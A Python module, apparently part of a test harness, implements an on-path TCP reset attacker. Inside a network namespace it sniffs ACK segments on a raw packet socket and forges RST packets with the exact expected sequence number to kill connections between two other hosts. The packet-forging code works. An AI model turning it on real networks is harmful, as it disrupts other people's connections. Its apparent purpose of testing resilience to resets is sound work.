"""An attacker on the wire that resets TCP connections between two other hosts."""

import ctypes
import os
import select
import socket
import struct
import threading
import time

from internet_checksum import checksum

ETH_P_ALL = 3
ETHERNET_BYTES = 14
IPV4 = 0x0800
TCP = 6
FLAG_RST = 0x04
FLAG_ACK = 0x10
CLONE_NEWNET = 0x40000000
RESETS_MAX = 200
RESET_S = 10


def _packet_socket(namespace, device):
    """A socket of a namespace, made in a thread that enters the namespace and ends."""
    made = []

    def enter():
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open(f"/run/netns/{namespace}", os.O_RDONLY)
        try:
            if libc.setns(fd, CLONE_NEWNET) != 0:
                made.append(OSError(ctypes.get_errno(), f"cannot enter {namespace}"))
                return
            opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
            opened.bind((device, 0))
            made.append(opened)
        except OSError as error:
            made.append(error)
        finally:
            os.close(fd)

    thread = threading.Thread(target=enter)
    thread.start()
    thread.join()
    if isinstance(made[0], OSError):
        raise made[0]
    return made[0]


def _reset_for(frame):
    """A forged RST from the receiver of this ACK, which its sender must accept; or None."""
    if len(frame) < ETHERNET_BYTES + 40 or struct.unpack_from("!H", frame, 12)[0] != IPV4:
        return None
    ip = frame[ETHERNET_BYTES:]
    if ip[9] != TCP:
        return None
    header_bytes = (ip[0] & 0xf) * 4
    source, destination = ip[12:16], ip[16:20]
    source_port, destination_port, _seq, ack = struct.unpack_from("!HHII", ip, header_bytes)
    flags = ip[header_bytes + 13]
    if not flags & FLAG_ACK or flags & FLAG_RST:
        return None
    # RFC 9293 3.10.7.4: exactly the next expected number; otherwise a challenge ACK answers it.
    tcp = struct.pack("!HHIIBBHHH", destination_port, source_port, ack, 0, 5 << 4, FLAG_RST, 0, 0,
                      0)
    pseudo = destination + source + struct.pack("!BBH", 0, TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, TCP, 0, destination,
                       source)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return frame[6:12] + frame[0:6] + frame[12:14] + head + tcp


class StreamResetter:
    """Listens on `device` in a namespace while a `with` block lasts."""

    def __init__(self, namespace, device):
        self._socket = _packet_socket(namespace, device)

    def __enter__(self):
        return self

    def __exit__(self, *_exception):
        self._socket.close()

    def reset(self):
        """Sends resets for the ACKs that it sees, at most RESETS_MAX, until none arrives."""
        deadline = time.monotonic() + RESET_S
        for _ in range(RESETS_MAX):
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([self._socket], [], [], min(left, 1))[0]:
                return
            frame, address = self._socket.recvfrom(65536)
            # An incoming frame was sent by the other side, so a frame that is sent here reaches
            # that side.
            if address[2] == socket.PACKET_OUTGOING:
                continue
            answer = _reset_for(frame)
            if answer is not None:
                self._socket.send(answer)
